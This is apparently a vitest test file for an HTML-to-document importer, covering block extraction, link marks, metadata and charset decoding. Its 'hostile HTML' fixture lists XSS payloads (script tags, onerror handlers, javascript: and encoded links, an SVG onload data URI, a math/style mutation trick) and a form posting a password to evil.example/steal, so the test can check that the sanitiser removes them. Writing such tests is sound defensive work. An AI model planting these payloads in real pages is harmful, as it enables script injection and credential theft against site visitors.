import iconv from 'iconv-lite';
import { describe, expect, it } from 'vitest';
import type { Block } from '../../../../shared/model';
import { documentFromHtml, htmlImporter, NOT_READERABLE } from '../../../../main/core/import/formats/html';
import { blocksFromDom } from '../../../../main/core/import/formats/html/blocks';
import { parseHtml } from '../../../../main/core/import/formats/html/dom';

const PROSE = 'The harbour authority said on Tuesday that the new quay would open in spring, after two years of delays caused by storms and a shortage of steel.';

/** A page long enough for Readability to call it an article. */
function articlePage(body: string, head = ''): string {
  const filler = Array.from({ length: 6 }, (_, i) => `<p>${PROSE} Paragraph ${i + 1} adds that the fishermen's union was consulted twice before the plans were approved by the council.</p>`).join('\n');
  return `<!doctype html><html lang="en"><head><title>Harbour Quay Opens in Spring | Coast News</title>${head}</head><body><nav><a href="/">Home</a></nav><article><h1>Harbour Quay Opens in Spring</h1>${body}${filler}</article><footer>© Coast News</footer></body></html>`;
}

const textOf = (blocks: Block[]): string => blocks.map((b) => b.text).join('\n\n');
const marked = (block: Block): string[] => (block.marks ?? []).map((m) => `${m.type}:${block.text.slice(m.start, m.end)}${m.href ? `→${m.href}` : ''}`);

function blocksOf(html: string): Block[] {
  const page = parseHtml(`<body>${html}</body>`);
  try {
    return blocksFromDom(page.document.body);
  } finally {
    page.close();
  }
}

describe('blocks from the DOM', () => {
  it('makes a block of each paragraph, heading, list item, quote, code block, caption and table row', () => {
    const blocks = blocksOf(`
      <h2>Back  story</h2><p>First   paragraph,
        wrapped.</p>
      <ul><li>one</li><li>two <ul><li>nested</li></ul></li></ul>
      <blockquote><p>Quoted words.</p></blockquote>
      <pre>  let x = 1;\n\n\n  x++;   \n</pre>
      <figure><img src="x.png" alt="a chart"><figcaption>Figure 1: costs</figcaption></figure>
      <table><tr><th>Year</th><th>Cost</th></tr><tr><td><p>2024</p></td><td>5 <b>m</b></td></tr></table>
      <div>Loose text in a div<p>then a paragraph</p>and a tail</div>`);
    expect(blocks.map((b) => [b.role, b.level ?? b.style ?? '', b.text])).toEqual([
      ['heading', 2, 'Back story'],
      ['body', '', 'First paragraph, wrapped.'],
      ['body', 'list-item', 'one'],
      ['body', 'list-item', 'two'],
      ['body', 'list-item', 'nested'],
      ['body', 'quote', 'Quoted words.'],
      ['body', 'code', '  let x = 1;\n  x++;'],
      ['body', 'caption', 'Figure 1: costs'],
      ['body', '', 'Year | Cost'],
      ['body', '', '2024 | 5 m'],
      ['body', '', 'Loose text in a div'],
      ['body', '', 'then a paragraph'],
      ['body', '', 'and a tail'],
    ]);
  });

  it('records strong, em, code and link marks at the offsets of the collapsed text', () => {
    const [block] = blocksOf(`<p>  A <strong>bold  claim</strong>, an <em>aside</em>,
      <code>npm test</code> and <a href="https://example.org/a">a <i>link</i></a> and <a href="mailto:x@example.org">mail</a>.</p>`);
    expect(block!.text).toBe('A bold claim, an aside, npm test and a link and mail.');
    expect(marked(block!)).toEqual(['strong:bold claim', 'em:aside', 'code:npm test', 'link:a link→https://example.org/a', 'em:link', 'link:mail→mailto:x@example.org']);
  });

  it('keeps <br> as a line break inside the block and drops invisible characters', () => {
    const [block] = blocksOf('<p>12 Quay Road<br>  Portsea<br><br>Hamp\u00adshire\u200b</p>');
    expect(block!.text).toBe('12 Quay Road\nPortsea\nHampshire');
  });

  it('drops links that are not http(s) or mailto, keeping their text', () => {
    const [block] = blocksOf('<p><a href="javascript:alert(1)">click</a> <a href="/relative">here</a> <a href="ftp://x">ftp</a></p>');
    expect(block).toEqual({ role: 'body', text: 'click here ftp' });
  });
});

describe('HTML pages', () => {
  it('imports the article with its metadata from meta tags and JSON-LD', () => {
    const ld = JSON.stringify({ '@context': 'https://schema.org', '@type': 'NewsArticle', headline: 'Harbour Quay Opens in Spring', author: [{ '@type': 'Person', name: 'Ana Lopes' }], datePublished: '2024-03-05T08:00:00Z', publisher: { name: 'Coast News' } });
    const doc = documentFromHtml(
      articlePage('<p class="lede">The <em>long-awaited</em> quay, <a href="https://example.org/plans">plans</a> show, cost €40m.</p>', `<link rel="canonical" href="https://news.example.org/quay"><meta name="description" content="The quay opens."><script type="application/ld+json">${ld}</script>`),
    );
    expect(doc).toMatchObject({ format: 'html', title: 'Harbour Quay Opens in Spring', author: 'Ana Lopes', source: 'Coast News', date: '2024-03-05', url: 'https://news.example.org/quay', lang: 'en', excerpt: 'The quay opens.', warnings: [] });
    expect(doc.blocks.every((b) => b.text === b.text.trim() && !/\s{2}|<|>/.test(b.text))).toBe(true);
    expect(textOf(doc.blocks)).not.toContain('Home');
    const lede = doc.blocks.find((b) => b.text.startsWith('The long-awaited'))!;
    expect(marked(lede)).toEqual(['em:long-awaited', 'link:plans→https://example.org/plans']);
    expect(doc.html).toContain('<em>long-awaited</em>');
  });

  it('marks the headline as the title block when the article starts with it', () => {
    const doc = documentFromHtml(`<html><body><div><h2>Harbour Quay Opens in Spring</h2><p>${PROSE}</p></div></body></html>`);
    expect(doc.blocks[0]).toMatchObject({ role: 'title', text: 'Harbour Quay Opens in Spring' });
  });

  it('imports a page that is not an article whole, with a warning', () => {
    const doc = documentFromHtml('<html><head><title>Links</title></head><body><ul><li><a href="https://a.example">Alpha</a></li><li>Beta</li></ul><p>Short note.</p></body></html>');
    expect(doc.warnings).toEqual([NOT_READERABLE]);
    expect(doc.blocks.map((b) => b.text)).toEqual(['Alpha', 'Beta', 'Short note.']);
    expect(doc.title).toBe('Links');
  });

  it('reads the charset a page declares, and a saved page\'s address', async () => {
    const html = `<!-- saved from url=(0032)https://news.example.org/kvartal -->\n<html><head><meta charset="windows-1251"><title>Новости</title></head><body><p>Жители квартала жалуются на шум.</p></body></html>`;
    const doc = await htmlImporter.parse({ name: 'page.html', bytes: iconv.encode(html, 'windows-1251') });
    expect(doc.blocks.map((b) => b.text)).toContain('Жители квартала жалуются на шум.');
    expect(doc.url).toBe('https://news.example.org/kvartal');
  });

  it('refuses a page without text in one line', () => {
    expect(() => documentFromHtml('<html><body><img src="x.png"></body></html>')).toThrow(/^the page has no text$/);
  });
});

// Long enough that Readability does not take it for a lazy-loading placeholder (it swaps those for srcset).
const PNG = 'iVBORw0KGgo'.repeat(20);

/** Every trick of the trade that should not survive into a stored article. */
const HOSTILE_BODY = `
  <script>alert('script')</script>
  <p onclick="alert('onclick')" style="background:url(https://tracker.example/bg)">Officials <b onmouseover="alert(1)">denied</b> the report.
    <img src="https://tracker.example/pixel.gif" onerror="alert('onerror')" alt="pixel">
    <img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+" alt="svg">
    <img src="data:image/png;base64,${PNG}" srcset="https://tracker.example/a.png 2x" alt="inline png">
    <a href="javascript:alert('href')">a javascript link</a>, <a href=" JaVaScRiPt:alert(2)">another</a>,
    <a href="&#106;avascript:alert(3)">an encoded one</a>, <a href="data:text/html,<script>alert(4)</script>">data</a>,
    <a href="vbscript:msgbox(5)">vb</a> and <a href="https://example.org/ok" target="_blank" ping="https://tracker.example">a fine one</a>.</p>
  <iframe src="https://evil.example/frame" srcdoc="<script>alert(6)</script>">frame text</iframe>
  <form action="https://evil.example/steal"><input name="password" value="x"><button formaction="javascript:alert(7)">Send</button></form>
  <object data="https://evil.example/flash.swf"><embed src="https://evil.example/e.swf"></object>
  <svg><script>alert(8)</script><a xlink:href="javascript:alert(9)"><text>svg text</text></a></svg>
  <math><mtext><style><img src=x onerror=alert(10)></style></mtext></math>
  <style>body{background:url(https://tracker.example/css)}</style>
  <link rel="stylesheet" href="https://tracker.example/s.css">
  <meta http-equiv="refresh" content="0;url=javascript:alert(11)">
  <noscript><img src=x onerror="alert(12)"></noscript>
  <template><img src=x onerror="alert(13)"></template>
  <video src="https://tracker.example/v.mp4" poster="https://tracker.example/p.jpg"></video>
  <p>The <span style="display:none">hidden</span>ministry <q cite="javascript:alert(14)">refused</q> to comment.</p>`;

describe('hostile HTML', () => {
  for (const [name, html] of [
    ['as an article', articlePage(HOSTILE_BODY)],
    ['as a page that is not an article', `<html><body>${HOSTILE_BODY}</body></html>`],
  ] as const) {
    it(`keeps no script, handler, frame, form, style or remote load ${name}`, () => {
      const doc = documentFromHtml(html, { url: 'https://news.example.org/story' });
      expect(doc.html).toBeDefined();
      // Nothing executable or remote in the stored HTML…
      expect(doc.html).not.toMatch(/<(script|iframe|form|input|button|object|embed|svg|math|style|link|meta|noscript|template|video)\b/i);
      expect(doc.html).not.toMatch(/\son\w+=|javascript:|vbscript:|data:text|data:image\/svg|srcset|style=|formaction|ping=|target=|tracker\.example|evil\.example/i);
      // …in the text…
      const text = textOf(doc.blocks);
      expect(text).not.toMatch(/alert|<|>|background:url/);
      expect(text).toContain('Officials denied the report.');
      // …or in the marks.
      const hrefs = doc.blocks.flatMap((b) => b.marks ?? []).filter((m) => m.type === 'link').map((m) => m.href);
      expect(hrefs).toEqual(['https://example.org/ok']);
      // An inline raster image may stay, without its remote srcset.
      expect(doc.html).toContain(`src="data:image/png;base64,${PNG}"`);
    });
  }
});
